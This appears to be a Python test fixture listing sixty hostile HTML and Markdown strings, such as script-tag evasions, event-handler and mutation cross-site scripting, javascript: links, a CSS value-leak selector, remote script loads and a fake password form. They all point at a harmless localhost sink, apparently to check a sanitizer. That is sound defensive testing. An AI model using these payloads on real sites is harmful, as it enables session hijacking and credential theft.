"""Sixty texts that mean harm, by what they try; `SINK` is where they would call if they could.

A text that calls sets `window.pwned`, changes the title, covers the page or asks something of the sink.
"""

from __future__ import annotations

SINK = "http://127.0.0.1:9"
RUN = "window.pwned=1"

SCRIPTS = (
    f"<script>{RUN}</script>",
    f"<ScRiPt src={SINK}/a.js></sCrIpT>",
    f"<scr<script>ipt>{RUN}</scr</script>ipt>",
    f'<svg onload={RUN}><script href="data:text/javascript,{RUN}"/></svg>',
    f'"><iframe srcdoc="<script>parent.{RUN.removeprefix("window.")}</script>"></iframe>',
    f"<details open ontoggle={RUN}><summary>x</summary></details>",
    f"' onfocus='{RUN}' autofocus tabindex='0' style='position:fixed",
    f'" onmouseover="{RUN}" onanimationstart="{RUN}" style="animation-name:x',
    f"<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror={RUN}&gt;'>",
    f"<noscript><p title='</noscript><img src=x onerror={RUN}>'>",
    f"{{{{constructor.constructor('{RUN}')()}}}} ${{{RUN}}} <%= {RUN} %> #{{{RUN}}}",
    f"</script><script>{RUN}//",
    f"<template><script>{RUN}</script></template><slot onslotchange={RUN}>",
    f"javascript:/*--></title></style></textarea></script></xmp><svg/onload='{RUN}'>",
)
IMAGES = (
    f'<img src=x onerror="{RUN}">',
    f"<img srcset='{SINK}/s.png 2x'><video poster={SINK}/p.png autoplay></video>",
    f"![image]({SINK}/markdown.png) ![ref][r]\n\n[r]: {SINK}/ref.png",
    f'<svg><image href="{SINK}/x.png"/><use href="{SINK}/u.svg#a"/></svg>',
    f"<picture><source srcset={SINK}/c.png><img></picture>",
    f"<audio src={SINK}/a.mp3 autoplay><track src={SINK}/t.vtt default></audio>",
    f"<object data={SINK}/o.swf><embed src={SINK}/e.swf></object>",
    f"<input type=image src={SINK}/i.png><table background={SINK}/t.png><tr><td>x</table>",
)
STYLES = (
    "<style>*{display:none!important}</style>",
    f"<link rel=stylesheet href={SINK}/x.css><meta http-equiv=refresh content='0;url={SINK}/'>",
    f"<div style='background:url({SINK}/bg.png)'>x</div>",
    f"<style>@import '{SINK}/i.css'; @font-face{{font-family:f;src:url({SINK}/f.woff)}}</style>",
    f"<style>input[value^=a]{{background:url({SINK}/leak?a)}}</style>",
    f'"style="background:url({SINK}/attribute)" x="',
    "<span class='masthead' id='question' hidden>a borrowed class and id</span>",
    f"<link rel=preload as=image href={SINK}/pre.png><link rel=prefetch href={SINK}/n><base href={SINK}/>",
)
OVERLAYS = (
    '<div style="position:fixed;inset:0;z-index:99999;background:red">covered</div>',
    f'<a href="{SINK}/" style="position:absolute;top:0;left:0;width:9999px;height:9999px">all a link</a>',
    "<dialog open style='width:100vw;height:100vh'>Your session has ended</dialog>",
    f"<form action='{SINK}/'><input name=password placeholder='Password'><button>Log in</button></form>",
    "</span></p></div></article></section></textarea></title><h1>out</h1><!--",
    "<marquee style='font-size:900px'>huge</marquee><font size=7>big</font>",
    "<div popover=manual id=p style='display:block!important;inset:0'>over</div>",
    "\n\n---\n\n# heading\n\n- item\n\n| a | b |\n|---|---|\n| c | d |\n\n    code\n\n"
    "```mermaid\ngraph TD\n```",
)
LINKS = (
    f'<a href="javascript:{RUN}">click</a> [click](javascript:{RUN})',
    f"[click](data:text/html;base64,PHNjcmlwdD4=) <javascript:{RUN}>",
    f"<{SINK}/auto> {SINK}/bare www.sink.example mailto:a@sink.example",
    f"<button formaction='javascript:{RUN}'>go</button><area href='javascript:{RUN}'>",
    f"[x](<{SINK}/a b> 'title') [y]\n\n[y]: {SINK}/definition",
    f"$$\\href{{javascript:{RUN}}}{{x}}$$ $\\frac{{1}}{{2}}$ \\(x^2\\) \\[\\htmlStyle{{color:red}}{{y}}\\]",
    f"jav\tascript:{RUN} java\nscript:{RUN} &#106;avascript:{RUN}",
    f"{SINK}\\@archive.example/ //sink.example/ \\\\sink.example\\share",
)
LETTERS = (
    "\u202eessej\u2066 right to left \u2069 and \u200bback",
    "\u202d\u202e\u202a\u202b\u2067\u2068 never closed",
    "\x00\x1b[2J\x85 control \ufffe",
    "&lt;img src=x onerror=window.pwned=1&gt; &#60;b&#62; &amp;amp; &NewLine; &Tab;",
    "＜script＞window.pwned=1＜/script＞ ‹script› ˂img src=x˃",
    "\U000e0041\U000e0042\u2060\ufeff\u00ad tags and joiners \u180e",
    "Z\u0351\u036b\u0343\u036a\u0302\u0368\u033f" + "\u0489\u0353" * 60 + " stacked marks",
    "مرحبا <b>עברית</b> 123 \u200f(mirror) [brackets]",
)
LENGTHS = (
    "W" * 700,
    "<" * 500,
    "\u00ad".join("hyphen" for _ in range(90)),
    "/very/long/path" * 45,
    "&" * 200 + "#x3c;" * 60,
    "\n" * 300 + "after many lines",
)
HOSTILE = SCRIPTS + IMAGES + STYLES + OVERLAYS + LINKS + LETTERS + LENGTHS
